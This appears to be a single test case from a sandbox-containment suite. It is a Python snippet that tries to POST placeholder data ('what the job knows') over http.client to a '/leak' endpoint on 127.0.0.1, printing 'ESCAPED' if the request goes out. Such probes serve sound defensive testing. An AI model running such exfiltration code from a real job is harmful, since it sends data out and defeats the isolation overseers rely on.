# attack: sends what it found out by http.client: the body leaves even if the answer does not come
# family: sockets
import http.client
connection = http.client.HTTPConnection("127.0.0.1", $PORT, timeout=3)
print("REACHED", connection)
connection.request("POST", "/leak", b"what the job knows")
print("ESCAPED sent a request to 127.0.0.1:$PORT")
